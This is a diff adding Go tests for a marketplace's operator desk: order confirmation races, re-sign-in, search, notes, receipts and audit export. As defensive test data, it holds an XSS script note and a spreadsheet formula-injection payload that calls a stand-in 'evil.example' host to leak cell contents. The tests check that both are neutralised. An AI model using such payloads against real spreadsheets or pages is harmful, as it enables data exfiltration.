@@ -1,0 +1,349 @@
+package operator_test
+
+import (
+	"encoding/csv"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"vitrine"
+	"vitrine/internal/auth"
+	"vitrine/internal/clocktest"
+	"vitrine/internal/markettest"
+	"vitrine/internal/pages"
+	"vitrine/internal/pages/operator"
+	"vitrine/internal/payment"
+	"vitrine/internal/session"
+	"vitrine/internal/shop"
+	"vitrine/internal/store"
+	"vitrine/internal/store/storetest"
+	"vitrine/internal/web"
+)
+
+// site serves the operator's desk of a marketplace whose operator confirms payments.
+type site struct {
+	db      *store.DB
+	shop    *shop.Shop
+	clock   *clocktest.Clock
+	handler http.Handler
+}
+
+func newSite(t *testing.T) *site {
+	t.Helper()
+	s := &site{db: storetest.SQLite(t), clock: clocktest.At(time.Date(2026, 5, 6, 12, 0, 0, 0, time.UTC))}
+	s.shop = shop.New(shop.Options{DB: s.db, Payments: payment.Manual{}, Settings: shop.DefaultSettings(), Now: s.clock.Now,
+		VisitorKey: []byte("key")})
+	if err := s.shop.Seed(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	shell, err := pages.New(pages.Options{BaseURL: markettest.BaseURL, Sessions: session.New(s.shop, markettest.BaseURL), Now: s.clock.Now})
+	if err != nil {
+		t.Fatal(err)
+	}
+	room, err := operator.New(operator.Options{Shell: shell, Shop: s.shop, DB: s.db, Now: s.clock.Now})
+	if err != nil {
+		t.Fatal(err)
+	}
+	mux := http.NewServeMux()
+	room.Register(mux)
+	s.handler = web.Wrap(mux, web.Options{Missing: shell.Missing})
+	return s
+}
+
+// ask sends a request as who has a session's secret.
+func (s *site) ask(t *testing.T, method, path, secret string, form url.Values) *httptest.ResponseRecorder {
+	t.Helper()
+	r := httptest.NewRequestWithContext(t.Context(), method, path, strings.NewReader(form.Encode()))
+	r.Header.Set("Accept", "text/html")
+	if form != nil {
+		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	}
+	r.AddCookie(&http.Cookie{Name: "__Host-vitrine-session", Value: secret})
+	w := httptest.NewRecorder()
+	s.handler.ServeHTTP(w, r)
+	return w
+}
+
+// operator makes an operator who has just signed in, and returns the secret of the session.
+func (s *site) operator(t *testing.T, name string) string {
+	t.Helper()
+	user, _, err := s.shop.CreateUser(t.Context(), shop.NewUser{Username: name, Email: name + "@example.com", Admin: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	secret, now := auth.NewSecret(auth.SessionPrefix), s.clock.Now()
+	write(t, s.db, func(tx *store.Tx) error {
+		session := vitrine.Session{UserID: user.ID, Method: vitrine.ByPassword, CreatedAt: now, SeenAt: now, ProvedAt: now}
+		return tx.InsertSession(t.Context(), &session, auth.Hash(secret))
+	})
+	return secret
+}
+
+func write(t *testing.T, db *store.DB, change func(*store.Tx) error) {
+	t.Helper()
+	if err := db.Write(t.Context(), change); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// order makes an unpaid order of 12.50.
+func (s *site) order(t *testing.T, uuid, email string) *vitrine.Order {
+	t.Helper()
+	user, _, err := s.shop.CreateUser(t.Context(), shop.NewUser{Email: "maker-of-" + uuid + "@example.com"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	made, err := s.shop.CreateModel(t.Context(), vitrine.Caller{User: *user, Scopes: vitrine.DefaultScopes()},
+		shop.ModelRequest{ModelChange: vitrine.ModelChange{Title: vitrine.Some("Oak chair")}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	o := &vitrine.Order{
+		UUID: uuid, UserID: user.ID, BuyersEmail: email, Status: vitrine.Unpaid, ModelID: made.ID, Price: 1250, Currency: "USD", Live: true,
+		Model:   vitrine.PinnedModel{Title: "Oak chair", Slug: "oak-chair", AuthorID: user.ID, AuthorName: "ada"},
+		License: vitrine.PinnedLicense{Type: vitrine.General, Hash: "h"}, Files: []vitrine.OrderFile{}, Handle: uuid,
+		CreatedAt: s.clock.Now(), UpdatedAt: s.clock.Now(), ExpiresAt: s.clock.Now().Add(time.Hour),
+	}
+	write(t, s.db, func(tx *store.Tx) error {
+		_, err := tx.InsertOrder(t.Context(), o)
+		return err
+	})
+	return o
+}
+
+func pathOf(o *vitrine.Order) string { return "/desk/orders/" + strconv.FormatInt(o.ID, 10) }
+
+// version is the form of an order as its page shows it now.
+func (s *site) version(t *testing.T, o *vitrine.Order) url.Values {
+	t.Helper()
+	now, err := s.db.Order(t.Context(), o.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return url.Values{"version": {strconv.FormatInt(now.Version, 10)}}
+}
+
+// TestTwoDecide has two operators decide of one order, who saw it as it was before: one
+// wins, and the other is told, whatever the two do.
+func TestTwoDecide(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct {
+		first, second string
+		paid          bool
+		want          vitrine.OrderStatus
+	}{
+		{"confirm", "confirm", false, vitrine.Paid}, {"confirm", "cancel", false, vitrine.Paid}, {"cancel", "confirm", false, vitrine.Canceled},
+		{"refund", "refund", true, vitrine.Refunded},
+	} {
+		s := newSite(t)
+		ada, bob := s.operator(t, "ada-op"), s.operator(t, "bob-op")
+		o := s.order(t, "one", "buyer@example.com")
+		if c.paid {
+			if _, err := s.shop.MarkPaid(t.Context(), o.ID); err != nil {
+				t.Fatal(err)
+			}
+		}
+		seen := s.version(t, o)
+		if got := s.ask(t, http.MethodPost, pathOf(o)+"/"+c.first, ada, seen); got.Code != http.StatusSeeOther {
+			t.Errorf("%+v: the first is answered %d\n%s", c, got.Code, got.Body)
+		}
+		got := s.ask(t, http.MethodPost, pathOf(o)+"/"+c.second, bob, seen)
+		if got.Code != http.StatusPreconditionFailed || !strings.Contains(got.Body.String(), "Somebody has decided of order") {
+			t.Errorf("%+v: the second is answered %d\n%s", c, got.Code, got.Body)
+		}
+		if now, err := s.db.Order(t.Context(), o.ID); err != nil || now.Status != c.want {
+			t.Errorf("%+v: the order is %v, %v", c, now.Status, err)
+		}
+		page := s.ask(t, http.MethodGet, pathOf(o), bob, nil).Body.String()
+		if !strings.Contains(page, "ada-op, from") || strings.Contains(page, "bob-op") {
+			t.Errorf("%+v: the page does not say that the first decided:\n%s", c, page)
+		}
+	}
+}
+
+// TestDecisionsAskOnceMore leads operators who signed in a while ago to show that it is
+// them, and asks in the change whether they still are operators.
+func TestDecisionsAskOnceMore(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	secret, o := s.operator(t, "ada-op"), s.order(t, "one", "buyer@example.com")
+	in, err := s.shop.SessionOf(t.Context(), secret)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.clock.Advance(vitrine.FreshFor)
+	got := s.ask(t, http.MethodPost, pathOf(o)+"/confirm", secret, s.version(t, o))
+	if !strings.HasPrefix(got.Header().Get("Location"), "/sign-in/again?next=%2Fdesk%2Forders%2F1%2Fconfirm") {
+		t.Errorf("an operator of a while ago: %d, to %q", got.Code, got.Header().Get("Location"))
+	}
+	got = s.ask(t, http.MethodGet, pathOf(o)+"/confirm", secret, nil)
+	if got.Header().Get("Location") != pathOf(o) {
+		t.Errorf("who comes back is led to %q", got.Header().Get("Location"))
+	}
+	if _, err := s.shop.Suspend(t.Context(), "ada-op"); err != nil {
+		t.Fatal(err)
+	}
+	in.Session.ProvedAt = s.clock.Now()
+	if _, err := s.shop.ConfirmOrder(t.Context(), in, o.ID, nil); vitrine.CodeOf(err) != vitrine.Unauthenticated {
+		t.Errorf("who was suspended a moment ago confirms: %v", err)
+	}
+	if err := s.shop.NoteOrder(t.Context(), in, o.ID, "here"); vitrine.CodeOf(err) != vitrine.Unauthenticated {
+		t.Errorf("who was suspended a moment ago writes: %v", err)
+	}
+}
+
+// TestOrdersAreFound looks for orders in every way that the page has.
+func TestOrdersAreFound(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	secret := s.operator(t, "op-one")
+	first, second := s.order(t, "uuid-of-one", "Ada@example.com"), s.order(t, "uuid-of-two", "<b>@example.com")
+	if _, err := s.shop.MarkPaid(t.Context(), second.ID); err != nil {
+		t.Fatal(err)
+	}
+	for query, want := range map[string][2]bool{
+		"": {true, true}, "find=1": {true, false}, "find=%232": {false, true}, "find=uuid-of-two": {false, true},
+		"find=ada@EXAMPLE.com": {true, false},
+		"model=1":              {true, false}, "model=8": {false, false}, "amount=12,50": {true, true}, "amount=12.51": {false, false},
+		"status=paid": {false, true}, "status=unpaid&amount=12.50": {true, false}, "find=99": {false, false},
+	} {
+		got := s.ask(t, http.MethodGet, "/desk/orders?"+query, secret, nil)
+		for i, o := range []*vitrine.Order{first, second} {
+			if shown := strings.Contains(got.Body.String(), `href="`+pathOf(o)+`"`); got.Code != http.StatusOK || shown != want[i] {
+				t.Errorf("%q shows order %d: %v, status %d", query, o.ID, shown, got.Code)
+			}
+		}
+	}
+	for query, fault := range map[string]string{"model=x": "model-fault", "amount=x": "amount-fault", "status=x": "status-fault"} {
+		got := s.ask(t, http.MethodGet, "/desk/orders?"+query, secret, nil)
+		if got.Code != http.StatusUnprocessableEntity || !strings.Contains(got.Body.String(), `id="`+fault+`"`) {
+			t.Errorf("%q: %d\n%s", query, got.Code, got.Body)
+		}
+	}
+}
+
+// TestNotesStay refuses notes of nothing and keeps what was typed; those that are kept are
+// text.
+func TestNotesStay(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	secret, o := s.operator(t, "op-one"), s.order(t, "one", "buyer@example.com")
+	long := strings.Repeat("ä", 2001)
+	for _, text := range []string{"  ", long} {
+		got := s.ask(t, http.MethodPost, pathOf(o)+"/note", secret, url.Values{"note": {text}})
+		if got.Code != http.StatusUnprocessableEntity || !strings.Contains(got.Body.String(), `id="note-fault"`) ||
+			text == long && !strings.Contains(got.Body.String(), long) {
+			t.Errorf("a note of %d bytes: %d", len(text), got.Code)
+		}
+	}
+	s.ask(t, http.MethodPost, pathOf(o)+"/note", secret, url.Values{"note": {"<script>alert(1)</script>"}})
+	if got := s.ask(t, http.MethodGet, pathOf(o), secret, nil).Body.String(); !strings.Contains(got, "&lt;script&gt;alert(1)&lt;/script&gt;") {
+		t.Errorf("the page lacks the note:\n%s", got)
+	}
+}
+
+// TestReceiptAgain sends one mail for two presses of a button, and none for what is unpaid.
+func TestReceiptAgain(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	secret, o := s.operator(t, "op-one"), s.order(t, "one", "buyer@example.com")
+	if got := s.ask(t, http.MethodPost, pathOf(o)+"/receipt", secret, url.Values{}); got.Code != http.StatusConflict {
+		t.Errorf("of an unpaid order: %d", got.Code)
+	}
+	if _, err := s.shop.MarkPaid(t.Context(), o.ID); err != nil {
+		t.Fatal(err)
+	}
+	for range 2 {
+		if got := s.ask(t, http.MethodPost, pathOf(o)+"/receipt", secret, url.Values{}); got.Code != http.StatusSeeOther {
+			t.Errorf("of a paid one: %d\n%s", got.Code, got.Body)
+		}
+	}
+	mails, err := s.db.Mails(t.Context(), "", 0, 10)
+	if err != nil || len(mails) != 1 || mails[0].Email != "buyer@example.com" {
+		t.Errorf("the mails are %+v, %v", mails, err)
+	}
+}
+
+// TestAuditExport reads the whole log as CSV and JSON, of more entries than are in memory
+// at once, with a note that a program for tables would carry out.
+func TestAuditExport(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	secret := s.operator(t, "op-one")
+	const formula, entries = `=HYPERLINK("https://evil.example/?"&A1)`, 1203
+	write(t, s.db, func(tx *store.Tx) error {
+		for i := range entries {
+			err := tx.AddEntry(t.Context(), &vitrine.Entry{At: s.clock.Now(), By: vitrine.Actor{Name: "@mallory", Application: "+1"},
+				Act: vitrine.ActOrderNote, SubjectID: strconv.Itoa(i), Note: formula})
+			if err != nil {
+				return err
+			}
+		}
+		return nil
+	})
+	got := s.ask(t, http.MethodGet, "/desk/audit/csv?act=order.note", secret, nil)
+	table, err := csv.NewReader(got.Body).ReadAll()
+	if err != nil || len(table) != entries+1 {
+		t.Fatalf("the table has %d rows, %v", len(table), err)
+	}
+	if row := table[1]; row[11] != "'"+formula || row[3] != "'@mallory" || row[4] != "'+1" {
+		t.Errorf("a row is %q", row)
+	}
+	got = s.ask(t, http.MethodGet, "/desk/audit/json?act=order.note", secret, nil)
+	var list []map[string]any
+	if err := json.Unmarshal(got.Body.Bytes(), &list); err != nil || len(list) != entries || list[0]["note"] != formula {
+		t.Errorf("%d entries, %v", len(list), err)
+	}
+	got = s.ask(t, http.MethodGet, "/desk/audit/json?who=nobody", secret, nil)
+	if text := got.Body.String(); text != "[]\n" {
+		t.Errorf("no entries are %q", text)
+	}
+	if got := s.ask(t, http.MethodGet, "/desk/audit/csv?since=yesterday", secret, nil); got.Code != http.StatusUnprocessableEntity {
+		t.Errorf("a day that is none: %d", got.Code)
+	}
+}
+
+// TestActsHaveWords fails for an act that the pages would tell by its name.
+func TestActsHaveWords(t *testing.T) {
+	t.Parallel()
+	for _, act := range vitrine.Acts() {
+		if operator.WordsOf(act) == string(act) {
+			t.Errorf("%s has no words", act)
+		}
+	}
+}
+
+// TestToday counts what was ordered and what waits.
+func TestToday(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	secret := s.operator(t, "op-one")
+	if got := s.ask(t, http.MethodGet, "/desk", secret, nil).Body.String(); !strings.Contains(got, "Nothing waits for you.") {
+		t.Errorf("an empty marketplace:\n%s", got)
+	}
+	o := s.order(t, "one", "buyer@example.com")
+	s.order(t, "two", "buyer@example.com")
+	if _, err := s.shop.MarkPaid(t.Context(), o.ID); err != nil {
+		t.Fatal(err)
+	}
+	s.clock.Advance(time.Minute) // what was added up is kept for a moment
+	got := strings.Join(strings.Fields(s.ask(t, http.MethodGet, "/desk", secret, nil).Body.String()), " ")
+	for _, want := range []string{
+		`<a href="/desk/orders?status=unpaid">transfer to confirm</a> <strong>1</strong>`,
+		`<th scope="row">Today</th><td class="number">2</td><td class="number">1</td><td class="number">12.50 USD</td>`,
+	} {
+		if !strings.Contains(got, want) {
+			t.Errorf("the page lacks %q:\n%s", want, got)
+		}
+	}
+	s.clock.Advance(8 * 24 * time.Hour)
+	secret = s.operator(t, "op-two")
+	if got := s.ask(t, http.MethodGet, "/desk", secret, nil).Body.String(); !strings.Contains(got, "There were none.") {
+		t.Errorf("a week later:\n%s", got)
+	}
+}
